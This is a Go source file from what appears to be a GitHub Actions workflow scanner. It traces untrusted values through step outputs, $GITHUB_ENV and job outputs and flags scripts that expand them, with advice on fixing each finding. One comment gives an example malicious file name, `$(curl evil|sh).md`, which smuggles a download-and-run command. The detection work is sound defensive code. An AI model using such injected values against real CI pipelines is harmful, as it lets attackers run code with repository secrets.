package actions

import (
	"fmt"
	"regexp"
	"strings"

	"github.com/ward-sec/ward/checks"
)

// Script injection one hop away: an untrusted value is first written to a
// step output ($GITHUB_OUTPUT, core.setOutput), to $GITHUB_ENV
// (core.exportVariable) or to an env: entry, and a later script expands it
// with ${{ steps.<id>.outputs.<name> }}, ${{ env.<NAME> }} or
// ${{ needs.<job>.outputs.<name> }}. The value is as attacker-controlled as
// where it came from, and the expansion happens before the script runs.

// origin is where a routed value came from.
type origin struct {
	source string // the untrusted context path, or a description
	via    string // "step meta's output title", "$GITHUB_ENV TITLE"…
	line   int
}

// outputWrite matches `echo "name=value" >> $GITHUB_OUTPUT` (and
// GITHUB_ENV), quoted or not, with echo or printf.
var outputWrite = regexp.MustCompile(`^\s*(?:echo|printf)\s+(?:-[en]+\s+)*["']?([A-Za-z_][A-Za-z0-9_-]*)=(.*?)["']?\s*>>\s*"?\$\{?GITHUB_(OUTPUT|ENV)\}?"?\s*$`)

// scriptWrite matches actions/github-script's core.setOutput("name", v)
// and core.exportVariable("NAME", v).
var scriptWrite = regexp.MustCompile(`core\.(setOutput|exportVariable)\(\s*['"]([A-Za-z_][A-Za-z0-9_-]*)['"]\s*,\s*([^)\n]*)`)

// payloadRead matches github-script reading attacker-controlled payload
// fields (context.payload.issue.title, context.payload.comment.body…).
var payloadRead = regexp.MustCompile(`context\.payload\.(?:issue|pull_request|comment|review|review_comment|discussion|head_commit)(?:\.head)?\.(?:title|body|ref|label|message)\b`)

var (
	stepsRef = regexp.MustCompile(`\bsteps\.([A-Za-z0-9_-]+)\.outputs\.([A-Za-z0-9_-]+)`)
	needsRef = regexp.MustCompile(`\bneeds\.([A-Za-z0-9_-]+)\.outputs\.([A-Za-z0-9_-]+)`)
	envRef   = regexp.MustCompile(`\benv\.([A-Za-z_][A-Za-z0-9_]*)`)
	shellVar = regexp.MustCompile(`\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?`)
)

// fileListActions are actions whose outputs list the pull request's file
// names, which its author chooses (a file can be called `$(curl evil|sh).md`).
var fileListActions = []string{"tj-actions/changed-files", "dorny/paths-filter"}

// flowState is what one job knows, step by step.
type flowState struct {
	env   map[string]origin            // env names holding untrusted values
	steps map[string]map[string]origin // step id → output → origin ("*" for any *files* output)
}

func (r *reporter) routedInjection() {
	wfEnv := untrustedEnv(r.w.Env, "the workflow's env")
	jobOuts := map[string]map[string]origin{}
	// First pass: every job's outputs (needs.<job> may refer to a job
	// declared after the one reading it).
	for _, j := range r.w.Jobs {
		st := r.walkJob(j, wfEnv, nil, false)
		for name, t := range j.Outputs {
			if o, ok := st.refOrigin(t.Value, jobOuts); ok {
				if jobOuts[j.ID] == nil {
					jobOuts[j.ID] = map[string]origin{}
				}
				o.via = fmt.Sprintf("job %s's output %s, from %s", j.ID, name, o.via)
				jobOuts[j.ID][name] = o
			}
		}
	}
	for _, j := range r.w.Jobs {
		r.walkJob(j, wfEnv, jobOuts, true)
	}
}

// walkJob follows untrusted values through one job's steps, reporting the
// scripts that expand them when report is set.
func (r *reporter) walkJob(j *job, wfEnv map[string]origin, jobOuts map[string]map[string]origin, report bool) *flowState {
	st := &flowState{env: map[string]origin{}, steps: map[string]map[string]origin{}}
	for k, v := range wfEnv {
		st.env[k] = v
	}
	for k, v := range untrustedEnv(j.Env, "job "+j.ID+"'s env") {
		st.env[k] = v
	}
	for _, s := range j.Steps {
		stepEnv := map[string]origin{}
		for k, v := range st.env {
			stepEnv[k] = v
		}
		for k, v := range untrustedEnv(s.Env, "this step's env") {
			stepEnv[k] = v
		}
		cur := &flowState{env: stepEnv, steps: st.steps}
		script, where := s.Run, "run"
		if s.Uses != nil && isAction(s.Uses.Value, "actions/github-script") {
			script, where = s.With["script"], "script"
		}
		if script != nil && report {
			r.reportRouted(script, where, cur, jobOuts)
		}
		if s.ID == "" && script == nil {
			continue
		}
		// What this step writes for the steps after it.
		if s.Uses != nil {
			for _, a := range fileListActions {
				if isAction(s.Uses.Value, a) && s.ID != "" {
					st.setOutput(s.ID, "*", origin{source: "file names in the pull request", via: a + "'s output", line: s.Uses.Line})
				}
			}
		}
		if script == nil {
			continue
		}
		if where == "run" {
			for i, l := range strings.Split(script.Value, "\n") {
				m := outputWrite.FindStringSubmatch(l)
				if m == nil {
					continue
				}
				o, ok := cur.valueOrigin(m[2], jobOuts)
				if !ok {
					continue
				}
				o.line = script.lineOf(offsetOfLine(script.Value, i))
				if m[3] == "ENV" {
					o.via = "$GITHUB_ENV " + m[1] + " (line " + fmt.Sprint(o.line) + ")"
					st.env[m[1]] = o
				} else if s.ID != "" {
					o.via = "step " + s.ID + "'s output " + m[1] + " (line " + fmt.Sprint(o.line) + ")"
					st.setOutput(s.ID, m[1], o)
				}
			}
			continue
		}
		for _, m := range scriptWrite.FindAllStringSubmatchIndex(script.Value, -1) {
			kind, name, val := script.Value[m[2]:m[3]], script.Value[m[4]:m[5]], script.Value[m[6]:m[7]]
			o, ok := cur.valueOrigin(val, jobOuts)
			if !ok {
				if p := payloadRead.FindString(val); p != "" {
					o, ok = origin{source: p}, true
				}
			}
			if !ok {
				continue
			}
			o.line = script.lineOf(m[0])
			if kind == "exportVariable" {
				o.via = "$GITHUB_ENV " + name + " (core.exportVariable, line " + fmt.Sprint(o.line) + ")"
				st.env[name] = o
			} else if s.ID != "" {
				o.via = "step " + s.ID + "'s output " + name + " (core.setOutput, line " + fmt.Sprint(o.line) + ")"
				st.setOutput(s.ID, name, o)
			}
		}
	}
	return st
}

func (st *flowState) setOutput(id, name string, o origin) {
	if st.steps[id] == nil {
		st.steps[id] = map[string]origin{}
	}
	st.steps[id][name] = o
}

// refOrigin reports an expression text that reads a routed untrusted value.
func (st *flowState) refOrigin(s string, jobOuts map[string]map[string]origin) (origin, bool) {
	for _, m := range stepsRef.FindAllStringSubmatch(s, -1) {
		outs := st.steps[m[1]]
		if o, ok := outs[m[2]]; ok {
			return o, true
		}
		if o, ok := outs["*"]; ok && strings.Contains(m[2], "files") {
			return o, true
		}
	}
	for _, m := range needsRef.FindAllStringSubmatch(s, -1) {
		if o, ok := jobOuts[m[1]][m[2]]; ok {
			return o, true
		}
	}
	for _, m := range envRef.FindAllStringSubmatch(s, -1) {
		if o, ok := st.env[m[1]]; ok {
			return o, true
		}
	}
	return origin{}, false
}

// valueOrigin reports a value written by a script that carries untrusted
// data: a direct ${{ untrusted }}, a routed ${{ }} reference, or a shell
// variable whose env is untrusted.
func (st *flowState) valueOrigin(v string, jobOuts map[string]map[string]origin) (origin, bool) {
	for _, e := range expressions(v) {
		if ps := untrustedPaths(e); len(ps) > 0 {
			return origin{source: ps[0]}, true
		}
		if o, ok := st.refOrigin(e.Raw, jobOuts); ok {
			return o, true
		}
	}
	for _, m := range shellVar.FindAllStringSubmatch(v, -1) {
		if o, ok := st.env[m[1]]; ok {
			return o, true
		}
	}
	return origin{}, false
}

// reportRouted reports every ${{ }} in a script that expands a routed value.
func (r *reporter) reportRouted(t *text, where string, st *flowState, jobOuts map[string]map[string]origin) {
	for _, e := range expressions(t.Value) {
		o, ok := st.refOrigin(e.Raw, jobOuts)
		if !ok {
			continue
		}
		r.add(RuleInjection, checks.SeverityHigh, t.lineOf(e.Offset), e.Raw, fmt.Sprintf(
			"%s carries %s (through %s) and is expanded into this %s before it runs: whoever writes that value "+
				"can inject %s code that runs with the workflow's token and secrets. Read it from an environment "+
				"variable in the script instead (env: VALUE: %s, then \"$VALUE\").",
			e.Raw, o.source, o.via, where, langOf(where), e.Raw))
	}
}

// untrustedEnv returns the env entries whose value holds an untrusted
// expression: ${{ env.NAME }} expands them into a script again.
func untrustedEnv(env map[string]*text, where string) map[string]origin {
	out := map[string]origin{}
	for k, v := range env {
		for _, e := range expressions(v.Value) {
			if ps := untrustedPaths(e); len(ps) > 0 {
				out[k] = origin{source: ps[0], via: where + " " + k, line: v.Line}
				break
			}
		}
	}
	return out
}

// offsetOfLine is the byte offset at which line i (0-based) of s starts.
func offsetOfLine(s string, i int) int {
	off := 0
	for ; i > 0; i-- {
		n := strings.IndexByte(s[off:], '\n')
		if n < 0 {
			return len(s)
		}
		off += n + 1
	}
	return off
}
